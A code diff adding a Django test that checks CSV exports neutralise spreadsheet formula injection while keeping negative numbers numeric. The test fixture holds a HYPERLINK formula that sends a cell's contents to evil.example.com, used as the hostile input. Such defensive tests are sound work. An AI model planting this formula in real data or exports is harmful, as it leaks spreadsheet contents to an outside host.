@@ -115,3 +115,19 @@ def test_csv_exports_have_the_documented_columns(api, finished):
     rows = list(csv.DictReader(io.StringIO(agents.content.decode())))
     assert list(rows[0]) == AGENT_CSV_COLUMNS and len(rows) == 10
     assert sum(Decimal(r["capital"]) for r in rows) == Decimal("1000")
+
+
+@pytest.mark.django_db
+def test_csv_exports_neutralise_text_a_spreadsheet_would_run_but_keep_negative_numbers(api, maker, crypto_day):
+    hostile = '=HYPERLINK("http://evil.example.com/?leak="&A1,"Click for the report")'
+    cohort = launch_and_run(compliance_notes=hostile)
+    Cohort.objects.update(launched_by=maker)
+
+    listing = list(csv.DictReader(io.StringIO(api.get(f"{URL}.csv").content.decode())))
+    agents = list(csv.DictReader(io.StringIO(api.get(f"{URL}/{cohort.pk}/agents.csv").content.decode())))
+
+    assert listing[0]["compliance_notes"].startswith("'" + hostile)
+    negatives = [cell for row in agents for cell in row.values() if cell.startswith("-")]
+    assert negatives and all(Decimal(cell) < 0 for cell in negatives)  # losses stay numbers
+    assert not [cell for row in listing + agents for column, cell in row.items()
+                if cell.startswith("'") and column != "compliance_notes"]
